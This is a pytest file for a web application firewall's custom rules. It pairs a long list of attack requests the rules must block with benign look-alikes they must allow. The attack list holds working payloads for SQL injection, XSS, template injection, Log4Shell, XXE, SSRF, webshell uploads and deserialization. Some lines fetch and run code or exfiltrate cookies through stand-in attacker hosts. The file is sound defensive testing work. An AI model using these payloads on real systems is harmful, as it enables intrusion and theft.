"""hostguard's own WAF rules (data/waf/rules/): for each rule, attacks it must score and honest requests of
the same shape it must leave alone, through the real engine with CRS 3.3.4 (the whole ruleset a site
gets). Asserts which rule matched, not only that something blocked."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from hostguard.waf.engine import Engine, Request
from hostguard.waf.ruleset import WafSettings, assemble
from tests.waf.test_engine import _need_library

HEADERS = [("Host", "shop.example.test"), ("User-Agent", "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0")]



def _query(value: str, name: str = "q") -> Request:
    return Request("GET", f"/search?{quote(name)}={quote(value)}", HEADERS)


def _json(body: str) -> Request:
    data = body.encode()
    return Request("POST", "/api/login", [*HEADERS, ("Content-Type", "application/json"),
                                          ("Content-Length", str(len(data)))], data)


def _path(target: str) -> Request:
    return Request("GET", target, HEADERS)


def _upload(filename: str, content: bytes, content_type: str = "image/gif") -> Request:
    body = (b'--XyZ\r\nContent-Disposition: form-data; name="title"\r\n\r\nholiday\r\n'
            b'--XyZ\r\nContent-Disposition: form-data; name="upload"; filename="' + filename.encode() +
            b'"\r\nContent-Type: ' + content_type.encode() + b"\r\n\r\n" + content + b"\r\n--XyZ--\r\n")
    return Request("POST", "/upload", [*HEADERS, ("Content-Type", "multipart/form-data; boundary=XyZ"),
                                       ("Content-Length", str(len(body)))], body)


def _body(content_type: str, body: bytes) -> Request:
    return Request("POST", "/api/import", [*HEADERS, ("Content-Type", content_type),
                                           ("Content-Length", str(len(body)))], body)


def _raw(content_type: str | None, text: str) -> Request:
    data = text.encode()
    headers = [*HEADERS, ("Content-Length", str(len(data)))]
    if content_type is not None:
        headers.append(("Content-Type", content_type))
    return Request("POST", "/api/ingest", headers, data)


HITS = [
    (20001, _query("1%2527%2520or%2520%25271%2527%253D%25271", "id")),
    (20001, _json('{"id": "1\\\\u0027 union select password from users--"}')),
    (20002, _json('{"bio": "\\\\u003cimg src=x onerror=alert(1)\\\\u003e"}')),
    (20002, Request("GET", "/", [*HEADERS, ("X-Display-Name", "%253Csvg%252Fonload%253Dalert(1)%253E")])),
    (20003, _query("&#x3b;&#x20;cat&#x20;/etc/passwd", "host")),
    (20003, _json('{"tpl": "\\\\u007b\\\\u007b7*7\\\\u007d\\\\u007d"}')),
    (20807, _query("Li4vLi4vLi4vZXRjL3Bhc3N3ZA==", "file")),
    (20807, Request("GET", "/", [*HEADERS, ("X-Payload", "PHN2Zy9vbmxvYWQ9YWxlcnQoMSk+")])),
    (20807, _json('{"data": "JChpZCk="}')),
    (20101, _json('{"user": {"$ne": null}, "password": {"$ne": null}}')),
    (20101, _query("x", "user[$ne]")),
    (20101, _json('{"filter": {"age": {"$Gt": 0}}}')),
    (20102, _query('{"age": {"$gt": 0}}', "filter")),
    (20103, _json('{"$where": "function() { sleep(5000); return true; }"}')),
    (20101, _json('{"pipeline": [{"$match": {}}, {"$lookup": {"from": "users", "localField": "a", "as": "u"}}]}')),
    (20102, _json('{"login": "admin", "secret": {"$nin": []}}')),
    (20104, _query("x'; return true; var y='", "name")),
    (20102, _path("/api/users/%7B%22%24ne%22%3Anull%7D")),
    (20306, _path("/actuator;/env")),
    (20306, _path("/app/..;/manager/html")),
    (20602, _path("/proxy/http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F")),
    (20602, _path("/page/php:%2f%2ffilter%2fresource=index.php")),
    (20602, _body("application/xml", b'<?xml version="1.0"?><doc><image href="http://10.0.0.7:8500/v1/kv"/></doc>')),
    (20604, _body("application/xslt+xml", b'<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://'
                                          b'www.w3.org/1999/XSL/Transform"><xsl:template match="/"><xsl:copy-of select='
                                          b'"document(\'/etc/passwd\')"/></xsl:template></xsl:stylesheet>')),
    (20104, _json('{"name": "a\\" || this.password.match(/.*/) || \\""}')),
    (20201, _query("{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}")),
    (20201, _query("{{''.__class__.__mro__[1].__subclasses__()}}")),
    (20201, _json('{"name": "{{#with \\"s\\" as |s|}}{{s.constructor.constructor}}{{/with}}"}')),
    (20202, _query("${T(java.lang.Runtime).getRuntime().exec('id')}")),
    (20202, _query('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}')),
    (20202, _query("#set($x=$class.forName('java.lang.Runtime'))")),
    (20203, _query("<%= `id` %>")),
    (20204, _query("{{7*7}}")),
    (20204, _query("#{3*3}")),
    (20301, _path("/api/users/1%27%20OR%20%271%27%3D%271/profile")),
    (20302, _path("/profile/%3Cscript%3Ealert(1)%3C%2Fscript%3E")),
    (20303, _path("/item;id=1'%20union%20select%201,2--")),
    (20304, _path("/api/items/5%20union%20select%20password%20from%20users")),
    (20304, _path("/api/items/5;%20drop%20table%20orders")),
    (20304, _path("/api/items/0%20and%201=0%20union%20all%20select%20name,pass%20from%20users/x")),
    (20304, _path("/shop/cat/1%20and%20(select%20password%20from%20admins%20limit%201)")),
    (20501, _upload("cat.php.jpg", b"\xff\xd8\xff\xe0JFIF")),
    (20501, _upload(".htaccess", b"AddType application/x-httpd-php .jpg", "text/plain")),
    (20501, _upload("x.phtml.", b"hello", "text/plain")),
    (20502, _upload("cat.gif", b'GIF89a<?php system($_GET["c"]); ?>')),
    (20502, _upload("shell.jsp", b'<%@ page import="java.io.*" %>', "text/plain")),
    (20502, _upload("x.aspx", b'<%@ Page Language="C#" %>', "text/plain")),
    (20601, _body("application/xml", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                     b"<r>&x;</r>")),
    (20601, _body("application/xml", b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM '
                                     b'"http://198.51.100.1/x.dtd"> %p;]><r/>')),
    (20601, _body("text/xml", b'<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" '
                              b'href="file:///etc/passwd"/></r>')),
    (20602, _query("http://169.254.169.254/latest/meta-data/", "url")),
    (20602, _query("gopher://127.0.0.1:6379/_FLUSHALL", "url")),
    (20602, _query("http://[::1]:8080/admin", "img")),
    (20602, _query("http://2130706433/", "u")),
    (20603, _body("application/json", b'{"__proto__": {"isAdmin": true}}')),
    (20603, _query("1", "a[__proto__][admin]")),
    (20603, _body("application/json", b'{"constructor": {"prototype": {"x": 1}}}')),
    (20603, _body("application/json-patch+json", b'[{"op": "add", "path": "/__proto__/admin", "value": true}]')),
    (20701, Request("GET", "/", [*HEADERS[:1], ("User-Agent", "${jndi:ldap://198.51.100.12:1389/a}")])),
    (20701, Request("GET", "/", [*HEADERS, ("Referer", "${${lower:j}${lower:n}${lower:d}i:ldap://198.51.100.12/r}")])),
    (20701, Request("GET", "/", [*HEADERS, ("X-Api-Version", "${${::-j}ndi:rmi://198.51.100.12/o}")])),
    (20701, _path("/api/items/%24%7Benv%3AAWS_SECRET_ACCESS_KEY%7D")),
    (20702, _query("en\r\nX-Injected: yes", "lang")),
    (20702, _body("application/x-www-form-urlencoded", b"email=me%40example.test%0D%0ABcc%3A+list%40example.test")),
    (20703, _path("/out?u=%E5%98%8D%E5%98%8ASet-Cookie:%20x=1")),
    (20704, _query("ftp://anonymous@198.51.100.23/pub/x.php", "file")),
    (20704, _query("\\\\198.51.100.23\\share\\x.php", "tpl")),
    (20704, _query("//198.51.100.23/inc/boot.php", "lib")),
    (20704, _query("hTtPs://evil.test/a.txt", "content")),
    (20705, _query("http://198.51.100.23/r57.php", "q")),
    (20705, _query("https://evil.test/lang.txt?", "x")),
    (20801, _query("192.0.2.1;id", "host")),
    (20801, _query("example.test\nid\n", "domain")),
    (20801, _body("application/x-www-form-urlencoded",
                  b"ip=192.0.2.1%3Bbusybox+wget+http%3A%2F%2F198.51.100.4%2Fmips+-O-+%7C+sh&count=4")),
    (20802, _query("x;/???/??t /???/p??s??", "dir")),
    (20802, _body("application/json", b'{"url": "ext::sh -c touch% /tmp/pwned", "branch": "main"}')),
    (20803, Request("GET", "/api/upload", [*HEADERS, ("X-File-Name", "report.pdf$(sleep 7)")])),
    (20803, Request("GET", "/", [*HEADERS, ("X-Forwarded-For", "192.0.2.12`id`")])),
    (20803, _path("/api/diag/ping/192.0.2.1;cat%20/etc/passwd")),
    (20804, Request("GET", "/login", [*HEADERS, ("X-Forwarded-For", "192.0.2.44' OR 1=1-- -")])),
    (20804, Request("GET", "/api/v1/me", [*HEADERS, ("X-Client-Version", "3.2%27%20OR%20%27x%27%3D%27x")])),
    (20805, Request("GET", "/login", [*HEADERS, ("Cookie", "rememberMe=rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ")])),
    (20805, _query("0", "class.module.classLoader.URLs[0]")),
    (20805, _body("application/x-yaml", b"steps: !!com.sun.rowset.JdbcRowSetImpl\n  dataSourceName: ldap://198.51.100.12/y\n")),
    (20806, _body("application/xml", b'<?xml version="1.0"?><request><item sku="X1\' AND SLEEP(5) AND '
                                     b'\'1\'=\'1"/></request>')),
    (20807, _query("c3RhdHVzPSdvcGVuJyBVTklPTiBTRUxFQ1QgbG9naW4scGFzc3dvcmQgRlJPTSBvcGVyYXRvcnMtLQ==", "f")),
    (20808, Request("GET", "/account/sessions", [*HEADERS, ("X-Device", "<img src=x onerror=alert(document.domain)>")])),
    (20808, Request("GET", "/", [*HEADERS, ("X-Forwarded-Host",
                                            "shop.example.test\"><script>fetch('//198.51.100.9')</script>")])),
    (20809, Request("GET", "/", [("Host", "shop.example.test"), ("User-Agent", "<?php system($_GET['c']); ?>")])),
    (20809, Request("GET", "/", [*HEADERS, ("Referer", "https://example.test/<?=`$_GET[x]`?>")])),
    (20809, Request("GET", "/", [*HEADERS, ("X-Api-Version", "passthru('id')")])),
    (20810, _path("/redirect/javascript:alert(document.cookie)")),
    (20810, Request("GET", "/", [*HEADERS, ("X-Return-To", "JaVaScRiPt:fetch('//198.51.100.9/'+document.cookie)")])),
    (20401, _json('{"query": "{ user(name: \\"1 union select null,version()--\\") { id } }"}')),
    (20401, Request("GET", "/", [*HEADERS, ("X-Tenant", "acme' UNION/**/ALL/**/SELECT username,password FROM users--")])),
    (20401, _body("application/xml", b"<?xml version=\"1.0\"?><q><id>0 union all select @@version</id></q>")),
    (20402, _json('{"query": "{ order(id: \\"1 AND pg_sleep(10)\\") { total } }"}')),
    (20402, Request("GET", "/", [*HEADERS, ("Cookie", "cart=1%20and%20benchmark(5000000,md5(1))")])),
    (20402, _query("1;waitfor delay '0:0:5'--", "id")),
    (20102, Request("GET", "/api/items", [*HEADERS, ("X-Filter", '{"owner": {"$ne": null}}')])),
    (20102, Request("GET", "/", [*HEADERS, ("Cookie", 'prefs=j%3A%7B%22user%22%3A%7B%22%24ne%22%3A1%7D%7D')])),
    (20201, _body("application/xml", b"<?xml version=\"1.0\"?><t><body>"
                                     b"{{ cycler.__init__.__globals__.os.popen('id').read() }}</body></t>")),
    (20204, Request("GET", "/", [*HEADERS, ("X-Greeting", "{{7*7}}")])),
    (20803, Request("GET", "/", [("Host", "shop.example.test"), ("User-Agent", "curl/8.5.0;`id`")])),
    (20807, Request("GET", "/", [*HEADERS, ("X-Filter", "JyBvciAnMSc9JzE=")])),
    (20912, _raw(None, "' or '1'='1")),
    (20912, _raw("text/plain", "id=1' AND 1=1 UNION SELECT 1,2-- -")),
    (20801, _raw(None, ";id")),
    (20811, _query("example.test & type C:\\Windows\\win.ini", "host")),
    (20811, _query("lp1 | powershell -nop -w hidden -enc SQBFAFgA", "queue")),
    (20811, _json('{"target": "192.0.2.7 && certutil -urlcache -f http://198.51.100.3/a.exe a.exe"}')),
    (20811, _query("192.0.2.7|whoami", "ip")),
    (20305, _path("/api/v1/orders/42%20AND%201=1/items")),
    (20305, _path("/shop/item/7%20or%20'a'='a'")),
    (20351, _query("/var/www/app/.env", "load")),
    (20351, _query("/proc/1/cmdline", "read")),
    (20351, _query("../../.git/config", "file")),
    (20351, _path("/download/..%2f..%2f.aws%2fcredentials")),
    (20403, _body("application/x-www-form-urlencoded", b"username=admin%27--+&password=anything")),
    (20403, _json('{"user": "admin\' #", "pass": "x"}')),
    (20602, _json('{"feed": "http://[fd00:ec2::254]/latest/meta-data/"}')),
    (20602, _query("https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets", "url")),
    (20602, Request("POST", "/api/jobs", [*HEADERS, ("X-Callback-Url", "http://127.0.0.1:8500/v1/agent/self")])),
    (20602, _body("application/xml", b"<?xml version=\"1.0\"?><a><img href=\"x\">http://10.0.0.5:2379/v2/keys</img></a>")),
    (20901, _upload("q3'),((SELECT password FROM users LIMIT 1)).txt", b"x", "text/plain")),
    (20901, _upload("x.png;curl 198.51.100.4|sh;.png", b"\x89PNG", "image/png")),
    (20901, _upload("a`id`.gif", b"GIF89a")),
    (20902, _upload("notes.txt", b"+ADw-script+AD4-", "text/plain; charset=utf-7")),
    (20903, _upload("notes.txt", b"x", "text/plain; charset=utf-8, text/html; charset=utf-7")),
    (20904, _query("x\r\n\r\nGET /admin/users HTTP/1.1\r\nHost: localhost", "lang")),
    (20904, _body("application/xml", b'<?xml version="1.0"?><a><b>POST /internal/reset HTTP/1.1</b></a>')),
    # a GIF header in front of PHP, and a script, as data URLs
    (20004, _json('{"avatar": "data:image/gif;base64,R0lGODlhPD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg=="}')),
    (20004, _query("data:text/html;charset=utf-8;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+",
                   "preview")),
    (20813, _json('{"a": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://198.51.100.7/x",'
                  ' "autoCommit": true}}')),
    (20813, _json('{"payload": {"$type": "System.Windows.Data.ObjectDataProvider, PresentationFramework",'
                  ' "MethodName": "Start"}}')),
    (20813, _json('{"x": {"@class": "org.springframework.context.support.FileSystemXmlApplicationContext"}}')),
    (20813, _json('{"y": {"@type": "Lcom.sun.rowset.JdbcRowSetImpl;", "dataSourceName": "ldap://198.51.100.7/x"}}')),
    (20814, _body("application/xml", b'<?xml version="1.0"?><java version="1.8"><object class="java.net.URL">'
                                     b'<string>http://198.51.100.7/</string></object></java>')),
]

MISSES = [
    _json('{"user": "bob", "price": "$5", "note": "$ne is not an operator here"}'),
    _query("$ne", "cost"),
    _query('{"age": 5, "tags": ["$gt"]}', "filter"),
    _json('{"code": "function add(a, b) { return a + b }"}'),
    _query("Hello {{name}}, your order {{order.id}} ships soon"),
    _query("7*7=49 and {braces}"),
    _query("{% if user %}hi{% endif %}"),
    _query("class Foo: def __init__(self): pass"),
    _path("/blog/2024/05/o-briens-guide-to-union-square"),
    _path("/api/users/42/profile"),
    _path("/docs/select-or-insert.html"),
    _path("/wiki/Rock_'n'_Roll"),
    _path("/search/it's%20a%20test"),
    _path("/recipes/select%20the%20ripest%20from%20the%20market"),
    _upload("cat.gif", b"GIF89a\x01\x00\x01\x00\x80\x00\x00"),
    _upload("php-cheatsheet.pdf", b"%PDF-1.4 about <?xml ?>", "application/pdf"),
    _upload("report.csv", b"a,b\n1,2\n", "text/csv"),
    _upload("notes.txt", b"We talked about the php function list.", "text/plain"),
    _body("application/xml", b'<?xml version="1.0"?><order><item qty="2">tea</item></order>'),
    _body("text/xml", b'<?xml version="1.0"?><!DOCTYPE html><rss version="2.0"><channel><title>x</title></channel></rss>'),
    _query("https://example.test/page?x=1", "url"),
    _query("https://cdn.example.test/127.0.0.1.png", "u"),
    _body("application/json", b'{"text": "the proto file and the constructor of the prototype car"}'),
    _query("https", "proto"),
    Request("GET", "/", [*HEADERS, ("X-Template", "Total: ${price} for ${HOME}")]),
    _query("Hello team,\r\nSubject: the plan for Monday is below", "message"),
    _query("https://example.test/articles/42", "next"),
    _query("https://example.test/docs/file.txt", "share"),
    _query("/local/path/page", "page"),
    _query("Meeting moved; see the notes. Cat lovers welcome", "message"),
    _query("CREATE TABLE `reviews` (\n  `id` int NOT NULL\n)", "definition"),
    _query("192.0.2.1", "host"),
    Request("GET", "/", [*HEADERS, ("X-Request-Id", "5f2b9c1e-0c4d-4e55-9f3c-6a1d2b7e8f90"),
                         ("If-None-Match", '"33a64df551425fcc55e4d42a148795d9f25f89d4"')]),
    _query("eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9", "token"),
    _body("application/xml", b'<?xml version="1.0"?><order id="O\'Brien-7" qty="2"><item>tea</item></order>'),
    _query("java.util.List and the class loader chapter", "topic"),
    Request("GET", "/", [*HEADERS, ("X-Device", "Pixel 8 Pro (Android 15) <work>"), ("X-Tenant", "O'Brien & Sons")]),
    _json('{"q": "the trade union select committee meets on Monday", "note": "union: select one"}'),
    _query("Union Select Bakery, 12 High St", "name"),
    _query("Sleep 8 hours, then run the benchmark 5 times", "message"),
    Request("GET", "/", [("Host", "shop.example.test"),
                         ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 "
                                        "(KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1"),
                         ("Referer", "https://example.test/blog/php-system-calls-explained?p=2")]),
    _path("/docs/javascript/closures"),
    _path("/blog/2024/rock-and-roll-1-2-3"),
    _path("/kb/why-1=1-is-true-and-or-gates"),
    _query("/var/www/app/config/settings.yml", "file"),
    _query("how to write a .env file for docker compose", "q"),
    _path("/docs/proc/filesystem-overview"),
    _body("application/x-www-form-urlencoded",
          b"comment=It%27s+Bob%27s+birthday%3B+let%27s+%27celebrate%27+--+really%21&author=O%27Brien"),
    _query("use '--force' to skip the checks", "q"),
    Request("GET", "/", [*HEADERS, ("Referer", "http://localhost:3000/dashboard"), ("Origin", "http://127.0.0.1:8080")]),
    _json('{"webhook": "https://hooks.example.test/services/T000/B000", "score": "10.5.2024"}'),
    _query("| Tool | Use |\n| PowerShell | scripting |", "text"),
    _query("Windows: open PowerShell | then run the installer & pick a folder", "text"),
    _query("Tom & Jerry; type of cheese: brie. Sort by date & start at 10", "message"),
    _query("https://example.test/a%20b/report%2Bq1.pdf", "next"),
    _json('{"name": "Ren\\\\u00e9e \\\\u2013 caf\\\\u00e9", "html": "caf&eacute; &#169; 2025 &#8211; 100% ok"}'),
    _query("eyJzdWIiOiI0MiIsIm5hbWUiOiJBbGljZSJ9", "state"),
    _query("aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBub3RlIQ==", "note"),
    Request("GET", "/", [*HEADERS, ("X-Request-Id", "dGhpcyBpcyBhIHRyYWNlIGlk"),
                         ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")]),
    # random WebSocket keys (16 bytes in base64) that libinjection's XSS check (20808) read as an event
    # handler, and whose decoded bytes 20807 (SQL and attack shapes) matched: found by running 25,000
    # random keys through the ruleset
    *(Request("GET", "/ws/chat", [*HEADERS, ("Connection", "Upgrade"), ("Upgrade", "websocket"),
                                  ("Sec-WebSocket-Version", "13"), ("Sec-WebSocket-Key", key)])
      for key in ("JIp/DxdTw7y3uCho/onVjw==", "on+JhfUeYNpNfUsLybNMQg==", "5CdBbmSp+DfDRqaSg4a6Lw==",
                  "+5EfSIp8fiRHlWVI0iUtLQ==", "nem5O2lEs97wT5ijKP9aYA==")),
    Request("GET", "/", [*HEADERS, ("X-Template", "{{ greeting }}, {{ name }}"), ("X-Filter", '{"owner": "bob"}')]),
    _upload("Liam O'Connell CV.pdf", b"%PDF-1.4", "application/pdf"),
    _upload("John's holiday (2).gif", b"GIF89a"),
    _upload("notes.txt", b"plain words", "text/plain; charset=utf-8"),
    _upload("notes.txt", b"plain words", 'text/plain; charset="ISO-8859-1"'),
    _query("Can't wait to get started\nwe will post tomorrow\nget it done", "message"),
    _body("application/xml", b'<?xml version="1.0"?><methodCall><methodName>wp.newPost</methodName>'
                             b'<params><param><value>1</value></param></params></methodCall>'),
    # a real image's data URL (PNG, 1x1); JSON-LD's @type; a dotted value under another
    # key; Spring's <bean class=...>, a Maven POM's coordinates
    _json('{"signature": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4'
          'DwABBAEAwS2OUAAAAABJRU5ErkJggg=="}'),
    _json('{"@context": "https://schema.org", "@type": "Person", "name": "Ann Lee"}'),
    _json('{"logger": "com.example.billing.InvoiceService", "level": "WARN"}'),
    _json('{"order": {"@class": "com.example.billing.Invoice", "total": 12.5}}'),   # Jackson's own DTO types
    # JSON Schema's and OData's own $-keys; a quote and "return" in prose
    _json('{"$schema": "https://json-schema.org/draft/2020-12/schema", "$ref": "#/$defs/item", "$defs": {}}'),
    _json('{"@odata.context": "$metadata#Products", "$top": 10, "$orderby": "name"}'),
    _query("He said 'no'; returning the parcel tomorrow", "note"),
    # path parameters that end the path or carry a value; a public URL in a path or an XML attribute; an XSLT
    # that reads a file of its own by a relative name
    _path("/shop/cart;jsessionid=8F3A2B1C9D"),
    _path("/cars;color=red/2024"),
    _path("/redirect/https%3A%2F%2Fwww.example.test%2Fdocs%2F"),
    _body("application/xml", b'<?xml version="1.0"?><doc><image href="https://cdn.example.test/a.png"/></doc>'),
    _body("application/xslt+xml", b'<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/'
                                  b'1999/XSL/Transform"><xsl:variable name="l" select="document(\'labels.xml\')"/>'
                                  b'</xsl:stylesheet>'),
    _body("application/xml", b'<?xml version="1.0"?><beans><bean id="mailer" class="com.example.mail.Sender"/>'
                             b'</beans>'),
    _body("application/xml", b'<?xml version="1.0"?><project><dependencies><dependency><groupId>org.apache.commons'
                             b'</groupId><artifactId>commons-text</artifactId><version>1.12.0</version>'
                             b'</dependency></dependencies></project>'),
]


@pytest.mark.parametrize(("rule", "request_"), HITS, ids=[f"{r}-{i}" for i, (r, _) in enumerate(HITS)])
def test_rule_scores_the_attack_and_the_request_is_blocked(waf: Engine, rule: int, request_: Request) -> None:
    verdict = waf.inspect(request_)
    assert rule in verdict.rule_ids, verdict.rule_ids
    assert verdict.disruptive and verdict.rule_ids[-1] == 949110


@pytest.mark.parametrize("request_", MISSES, ids=[f"miss-{i}" for i in range(len(MISSES))])
def test_honest_requests_of_the_same_shape_are_left_alone(waf: Engine, request_: Request) -> None:
    verdict = waf.inspect(request_)
    assert not [r for r in verdict.rule_ids if 20000 <= r < 30000], verdict.rule_ids
    assert not verdict.disruptive, verdict.rule_ids


def _file_of(rule_id: int) -> str:
    from hostguard.waf.ruleset import own_rule_files

    for path in own_rule_files():
        with open(path, encoding="utf-8") as f:
            text = f.read()
        if f'"id:{rule_id},' in text:
            return text
    raise AssertionError(rule_id)


def test_own_rules_use_their_id_range_and_every_rule_has_a_test() -> None:
    import re

    from hostguard.waf.ruleset import own_rule_files

    ids = set()
    quiet = set()   # rules that score nothing (pass, nolog): the gates (tests/waf/test_gates.py) and 20000
    for path in own_rule_files():
        with open(path, encoding="utf-8") as f:
            text = f.read()
        ids.update(int(found) for found in re.findall(r'"id:(\d+)', text))
        quiet.update(int(found) for found in re.findall(r'"id:(\d+),phase:2,pass,nolog,', text))
    assert ids and all(10000 <= i <= 29999 for i in ids)
    assert all("anomaly_score" not in re.split(r"(?m)^Sec", text[text.index(f'"id:{i},'):])[0]
               for i in quiet for text in [_file_of(i)])
    gates = quiet   # 20000 looks once for an encoding layer: 20001-20003 read only when it found one
    tested = {rule for rule, _ in HITS} | {rule for rule, _, _ in BODY_READERS} | gates
    assert ids <= tested, sorted(ids - tested)


# Rules that only choose how a body is read (no score of their own): the attack in such a body is found by
# the rule named, through the arguments the body became.
BODY_READERS = [
    (20910, _raw(None, "1' union select login, password from operators-- -"), 942100),
    (20910, _raw(None, "<svg onload=alert(document.cookie)>"), 941100),
    (20911, _raw("text/plain", "; cat /etc/passwd"), 932160),
    (20911, _raw("text/csv; charset=utf-8", "name,total\n{{ config.__class__.__init__.__globals__ }},3\n"), 20201),
]


@pytest.mark.parametrize(("rule", "request_", "finder"), BODY_READERS,
                         ids=[f"{r}-{i}" for i, (r, _, _) in enumerate(BODY_READERS)])
def test_bodies_without_a_processor_are_read_as_arguments(waf: Engine, rule: int, request_: Request,
                                                          finder: int) -> None:
    verdict = waf.inspect(request_)
    assert finder in verdict.rule_ids and verdict.disruptive, verdict.rule_ids


@pytest.mark.parametrize("text", [
    "Deploy finished.\nAll 12 checks passed; nothing to do.\nSee you tomorrow",
    "2025-03-01T10:00:00Z INFO worker started\n2025-03-01T10:00:01Z INFO 100% of jobs done",
    "name,city\nO'Brien,Cork\nD'Angelo,Turin\n",
])
@pytest.mark.parametrize("content_type", [None, "text/plain; charset=utf-8", "text/csv"])
def test_ordinary_text_bodies_read_as_arguments_pass(waf: Engine, text: str, content_type: str | None) -> None:
    verdict = waf.inspect(_raw(content_type, text))
    assert not verdict.disruptive, verdict.rule_ids


# CRS rules removed (crs-updates.conf): each refuses an honest request with plain CRS, which passes with
# hostguard's rules, while an attack of its kind is still refused by the other rules.
REMOVED = [
    (932100, _json('{"query": "query Post($id: ID!) { post(id: $id) { id title author { name } } }"}'),
     _query("127.0.0.1;`cat /etc/passwd`", "host")),
    (932115, _query("Please don't drop the table; select a window seat if you can", "notes"),
     _query("example.test & type C:\\Windows\\win.ini", "host")),
    (941310, Request("GET", "/search?q=" + quote("\uff21\uff22\uff23\u682a\u5f0f\u4f1a\u793e") + "&city=" +
                     quote("\u6771\u4eac\u90fd\uff08\uff2a\uff30\uff09"), HEADERS),   # two fields: one score each
     _query("<script>alert(document.cookie)</script>")),
    (942190, _json('{"q": "\\"select committee\\" report 2024"}'),
     _query("1' union select username, password from users-- -", "id")),
    (942360, _query("name,email", "$select"), _query("1' union select username, password from users-- -", "id")),
    (921110, _query("Can't wait to get started\nsee you", "message"),
     _query("x\r\n\r\nGET /admin/users HTTP/1.1\r\nHost: localhost", "lang")),
    (944130, _body("application/xml", b'<?xml version="1.0"?><project><dependencies><dependency><groupId>'
                                      b'org.apache.commons</groupId><artifactId>commons-text</artifactId>'
                                      b'</dependency></dependencies></project>'),
     _json('{"b": {"@type": "com.sun.rowset.JdbcRowSetImpl", "dataSourceName": "ldap://198.51.100.7/x"}}')),
]



@pytest.mark.parametrize(("rule", "honest", "attack"), REMOVED, ids=[str(r) for r, _, _ in REMOVED])
def test_removed_crs_rules_no_longer_refuse_honest_text_and_attacks_still_are(
        waf: Engine, plain: Engine, rule: int, honest: Request, attack: Request) -> None:
    with_crs = plain.inspect(honest)
    assert rule in with_crs.rule_ids and with_crs.disruptive, with_crs.rule_ids
    verdict = waf.inspect(honest)
    assert rule not in verdict.rule_ids and not verdict.disruptive, verdict.rule_ids
    assert waf.inspect(attack).disruptive


def test_accept_charset_is_no_longer_refused_but_routing_headers_are(waf: Engine) -> None:
    charset = waf.inspect(Request("GET", "/", [*HEADERS, ("Accept-Charset", "utf-8, iso-8859-1;q=0.5, *;q=0.1")]))
    assert not charset.disruptive, charset.rule_ids
    proxy = waf.inspect(Request("GET", "/", [*HEADERS, ("Proxy", "http://198.51.100.7:8080")]))
    assert 920450 in proxy.rule_ids and proxy.disruptive


def test_the_phpmyadmin_package_lets_its_sql_box_through_and_nothing_else() -> None:
    _need_library()

    def form(target: str, **fields: str) -> Request:
        body = "&".join(f"{k}={quote(v)}" for k, v in fields.items()).encode()
        return Request("POST", target, [*HEADERS, ("Content-Type", "application/x-www-form-urlencoded"),
                                        ("Content-Length", str(len(body)))], body)

    sql = "SELECT * FROM users WHERE name = 'x' OR 1=1 UNION SELECT password FROM admins"
    box = form("/phpmyadmin/index.php?route=/import", sql_query=sql, token="a1b2c3")
    other_route = form("/phpmyadmin/index.php?route=/table/change", sql_query=sql, token="a1b2c3")
    other_arg = form("/phpmyadmin/index.php?route=/import", db=sql, token="a1b2c3")
    old_entry = form("/phpmyadmin/import.php", sql_query=sql, token="a1b2c3")
    with Engine(text=assemble(WafSettings())) as plain:
        assert plain.inspect(box).disruptive and plain.inspect(old_entry).disruptive
    with Engine(text=assemble(WafSettings(applications=("phpmyadmin",)))) as tuned:
        assert not tuned.inspect(box).disruptive, tuned.inspect(box).rule_ids
        assert not tuned.inspect(old_entry).disruptive
        assert tuned.inspect(other_route).disruptive and tuned.inspect(other_arg).disruptive
